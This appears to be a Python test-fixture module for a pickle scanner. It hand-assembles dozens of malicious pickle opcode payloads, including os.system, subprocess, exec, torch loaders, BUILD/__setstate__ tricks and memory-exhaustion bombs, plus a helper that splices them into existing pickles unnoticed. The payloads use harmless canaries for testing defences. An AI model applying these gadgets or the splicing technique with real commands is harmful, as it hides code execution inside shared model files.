"""Pickles that do harm when they are unpickled, opcode by opcode.

Each is the part between PROTO and STOP, and leaves one value on the stack. What they would do is
harmless in itself (a file named CANARY appears), but each by the means that an attacker takes.
"""

from __future__ import annotations

import pickle
import struct

CANARY = "ckptmigrate-was-here"
_TOUCH = f"touch {CANARY}"


def text(value: str) -> bytes:
    body = value.encode()
    return b"X" + struct.pack("<I", len(body)) + body


def named(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def called(module: str, name: str, *arguments: bytes) -> bytes:
    """REDUCE: the symbol called with arguments that are opcodes themselves."""
    return named(module, name) + b"(" + b"".join(arguments) + b"tR"


_CODE = text(f"open({CANARY!r}, 'w')")
_FILE = text(CANARY)

GADGETS: dict[str, bytes] = {
    # commands
    "os.system": called("os", "system", text(_TOUCH)),
    "posix.system": called("posix", "system", text(_TOUCH)),
    "nt.system": called("nt", "system", text(_TOUCH)),
    "os.popen": called("os", "popen", text(_TOUCH)),
    "os.execlp": called("os", "execlp", text("touch"), text("touch"), _FILE),
    "os.posix_spawn": called("os", "posix_spawn", text("/bin/sh"), b"]", b"}"),
    "os.remove": called("os", "remove", _FILE),
    "subprocess.Popen": called("subprocess", "Popen", text("id")),
    "subprocess.check_output": called("subprocess", "check_output", text("id")),
    "pty.spawn": called("pty", "spawn", text("id")),
    "commands.getoutput": called("commands", "getoutput", text("id")),
    # code
    "builtins.exec": called("builtins", "exec", _CODE),
    "builtins.eval": called("builtins", "eval", _CODE),
    "builtins.compile": called("builtins", "compile", _CODE, text("x"), text("exec")),
    "builtins.open": called("builtins", "open", _FILE, text("w")),
    "builtins.getattr": called("builtins", "getattr", named("os", "path"), text("os")),
    "builtins.__import__": called("builtins", "__import__", text("antigravity")),
    "__builtin__.eval": called("__builtin__", "eval", _CODE),
    "__builtin__.execfile": called("__builtin__", "execfile", _FILE),
    "importlib.import_module": called("importlib", "import_module", text("antigravity")),
    "runpy.run_path": called("runpy", "run_path", _FILE),
    "runpy._run_code": called("runpy", "_run_code", _CODE, b"}"),
    "code.InteractiveInterpreter": called("code", "InteractiveInterpreter"),
    "timeit.timeit": called("timeit", "timeit", _CODE),
    "cProfile.run": called("cProfile", "run", _CODE),
    "pdb.run": called("pdb", "run", _CODE),
    "types.CodeType": called("types", "CodeType"),
    "marshal.loads": called("marshal", "loads", b"C\1N"),
    "functools.partial": called("functools", "partial", named("os", "system"), text(_TOUCH)),
    "operator.attrgetter": called("operator", "attrgetter", text("system")),
    "operator.methodcaller": called("operator", "methodcaller", text("system"), text(_TOUCH)),
    "numpy.testing runstring": called("numpy.testing._private.utils", "runstring", _CODE, b"}"),
    "numpy.load": called("numpy", "load", _FILE),
    "a dotted name": text("os") + text("path.os.system") + b"\x93" + text("id") + b"\x85R",
    # native code, the network, the desktop
    "ctypes.CDLL": called("ctypes", "CDLL", text("libc.so.6")),
    "socket.create_connection": called("socket", "create_connection", text("127.0.0.1"), b"K\x09"),
    "urllib.request.urlopen": called("urllib.request", "urlopen", text("http://127.0.0.1:9/")),
    "webbrowser.open": called("webbrowser", "open", text("http://127.0.0.1:9/")),
    "pip.main": called("pip", "main", b"]"),
    # torch
    "torch.load": called("torch", "load", _FILE),
    "torch.hub.load": called("torch.hub", "load", text("a/b"), text("c")),
    "torch.jit.load": called("torch.jit", "load", _FILE),
    "torch.utils.cpp_extension": called("torch.utils.cpp_extension", "load", text("x"), b"]"),
    "torch.storage._load_from_bytes": called("torch.storage", "_load_from_bytes", b"C\1N"),
    # ways to get there
    "STACK_GLOBAL from the memo": text("os") + b"q\x000" + text("system") + b"q\x010h\x00h\x01\x93"
    + text(_TOUCH) + b"\x85R",
    "REDUCE chain": called("builtins", "getattr", called("builtins", "__import__", text("os")),
                           text("system")) + text(_TOUCH) + b"\x85R",
    "INST": b"(" + text(_TOUCH) + b"ios\nsystem\n",
    "OBJ": b"(" + named("os", "system") + text(_TOUCH) + b"o",
    "NEWOBJ": named("subprocess", "Popen") + text("id") + b"\x85\x81",
    "NEWOBJ_EX": named("subprocess", "Popen") + b")}" + text("args") + text("id") + b"s\x92",
    "BUILD of a class": named("os", "environ") + b"}" + text("x") + b"K\1sb",
    "BUILD of dunders": called("argparse", "Namespace") + b"}" + text("__class__")
    + named("os", "system") + b"sb",
    "BUILD of __setstate__": named("argparse", "Namespace") + b")\x81}" + text("__setstate__")
    + named("os", "system") + b"sb" + text(_TOUCH) + b"b",
    "BUILD of slots": called("argparse", "Namespace") + b"N}" + text("__dict__") + b"Ns\x86b",
    "EXT1": b"\x82\x01",
    "EXT2": b"\x83\x01\x01",
    "EXT4": b"\x84\x01\x01\x01\x01",
    "PERSID": b"Pos.system\n",
    "BINPERSID": called("os", "system", text(_TOUCH)) + b"Q",
    "nested pickle": called("pickle", "loads", b"C" + bytes([23]) + b"cos\nsystem\n(Vtouch\ntR."),
    "copyreg extension": called("copyreg", "add_extension", text("os"), text("system"), b"K\1"),
    # too much
    "LONG_BINPUT": b"Nr\xff\xff\xff\x7f",
    "LONG_BINGET": b"j\xff\xff\xff\x7f",
    "billion laughs in lists": b"]q\x00" + b"".join(
        b"0]q" + bytes([n + 1]) + b"(h" + bytes([n]) + b"h" + bytes([n]) + b"e" for n in range(99)
    ),
    "billion laughs in keys": b"}" + b"K\1\x85q\x00" + b"".join(
        b"0h" + bytes([n]) + b"h" + bytes([n]) + b"\x86q" + bytes([n + 1]) for n in range(60)
    ) + b"Ns",
    "deep lists": b"]" * 200_000 + b"a" * 199_999,
    "deep tuples": b")" + b"\x85" * 300_000,
    "deep REDUCE": named("a", "b") * 9000 + b")" + b"\x85R" * 9000,
    "LONG4": b"\x8b" + struct.pack("<i", 2**31 - 1),
    "LONG4, negative": b"\x8b" + struct.pack("<i", -1),
    "LONG4 of a megabyte": b"\x8b" + struct.pack("<i", 2**20) + b"\x7f" * 2**20,
    "a number too long to print": b"\x8a\xff" + b"\x7f" * 255 + b"0\x8b\0\x10\0\0" + b"\x7f" * 4096,
    "BINUNICODE beyond the file": b"X\xff\xff\xff\xff",
    "BINUNICODE8 beyond the file": b"\x8d" + b"\xff" * 8,
    "BINBYTES8 beyond the file": b"\x8e" + b"\xff" * 7 + b"\x7f",
    "BYTEARRAY8 of an exabyte": b"\x96" + b"\0" * 7 + b"\x10",
    "FRAME beyond the file": b"\x95" + b"\xff" * 7 + b"\x7fN",
    "symbols in millions": named("a", "b") * 1_000_000,
    "sets in millions": b"](" + b"\x8f" * 3_000_000 + b"e",
    "text that is no UTF-8": b"X\2\0\0\0\xff\xfe",
    "a symbol of control characters": named("\x1b[2J\x1b]0;x\x07", "\u202e"),
}  # fmt: skip


def whole(body: bytes) -> bytes:
    """A pickle of protocol 4 that is nothing but the gadget."""
    return b"\x80\x04" + body + b"."


def slipped_into(data: bytes, body: bytes) -> bytes:
    """A pickle as it was that also runs the gadget, whose value is dropped before the end.

    The last frame ends before the gadget, which stands outside of any: all readers accept that.
    """
    frames = [(op, arg, at) for op, arg, at in _opcodes(data) if op == "FRAME"]
    body = body + b"0"
    if frames and frames[-1][2] + 9 + frames[-1][1] == len(data):
        at = frames[-1][2] + 1
        size = struct.pack("<Q", frames[-1][1] - 1)
        data = data[:at] + size + data[at + 8 :]
    return data[:-1] + body + b"."


def _opcodes(data: bytes) -> list[tuple[str, int, int]]:
    import pickletools

    return [(op.name, arg, at or 0) for op, arg, at in pickletools.genops(data)]


assert pickle.loads(slipped_into(pickle.dumps([1, "x"] * 9, 4), b"N")) == [1, "x"] * 9
